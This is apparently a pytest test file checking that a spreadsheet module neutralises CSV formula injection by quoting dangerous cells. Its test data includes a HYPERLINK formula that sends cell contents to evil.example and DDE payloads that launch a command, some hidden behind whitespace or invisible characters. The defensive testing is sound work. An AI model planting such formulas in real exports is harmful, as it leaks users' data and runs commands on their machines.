"""Every cell of every CSV the product writes is safe to open in a spreadsheet (OWASP, "CSV
injection"): text a spreadsheet would run as a formula starts with a single quote; numbers
stay numbers."""

from __future__ import annotations

from typing import Any

import pytest

import spreadsheet


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
            '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        ),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),  # a full-width equals sign, read as '=' by some spreadsheets
        # behind white space or invisible marks a spreadsheet may skip, or a list separator
        ("\n=1+1", "'\n=1+1"),
        (" =1+1", "' =1+1"),
        ("\u00a0=1+1", "'\u00a0=1+1"),
        ("\u200b=1+1", "'\u200b=1+1"),
        ("\ufeff=1+1", "'\ufeff=1+1"),
        (";=1+1", "';=1+1"),
        (", =1+1", "', =1+1"),
        (" Humber", " Humber"),
        ("; a note", "; a note"),
        # ordinary text and numbers are written as they are
        ("Humber", "Humber"),
        ("a=b", "a=b"),
        ("", ""),
        ("-5", "-5"),
        ("+44", "+44"),
        ("-0.75", "-0.75"),
        ("1e-3", "1e-3"),
        (-5, -5),
        (7.5, 7.5),
        (None, None),
    ],
)
def test_a_cell(value: Any, written: Any) -> None:
    assert spreadsheet.cell(value) == written


def test_a_row_neutralises_every_cell() -> None:
    assert spreadsheet.row(["=1", 2, "x"]) == ["'=1", 2, "x"]


# The characters the module's docstring names: white space and invisible marks a spreadsheet
# may skip, then a list separator. Each, alone or in front of a separator, before a formula.
SKIPPED = [" ", "\t", "\r", "\n", "\u00a0", "\u2007", "\u202f", "\u200b", "\u200c"]
SKIPPED += ["\u200d", "\u2060", "\ufeff"]


@pytest.mark.parametrize(
    "lead", [*SKIPPED, *(s + ";" for s in SKIPPED), *(";" + s for s in SKIPPED)]
)
@pytest.mark.parametrize("formula", ["=1+1", "+1", "-1+cmd", "@SUM(1)", "\uff0b1"])
def test_a_formula_behind_any_skipped_character_or_separator_is_quoted(
    lead: str, formula: str
) -> None:
    assert spreadsheet.cell(lead + formula) == "'" + lead + formula
